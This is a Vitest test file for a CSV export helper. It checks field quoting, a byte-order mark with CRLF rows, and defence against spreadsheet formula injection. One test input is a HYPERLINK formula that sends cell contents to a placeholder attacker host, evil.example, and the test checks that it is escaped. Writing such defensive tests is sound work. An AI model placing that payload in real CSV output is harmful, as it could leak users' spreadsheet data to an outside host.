import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from '../../src/lib/csv';

describe('CSV', () => {
  it('quotes only fields that need it', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField(undefined)).toBe('');
    expect(csvField(4894000)).toBe('4894000');
  });
  it('opens a cell that looks like a formula as text (OWASP CSV injection)', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
    for (const lead of ['+', '-', '@', '\t', '\r']) expect(csvField(`${lead}1`).replace(/^"/, '').startsWith(`'${lead}`)).toBe(true);
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(-5)).toBe('-5');
  });
  it('starts with a byte-order mark and ends rows with CRLF', () => {
    expect(toCsv(['a', 'b'], [['数说', 1]])).toBe('\uFEFFa,b\r\n数说,1\r\n');
  });
});
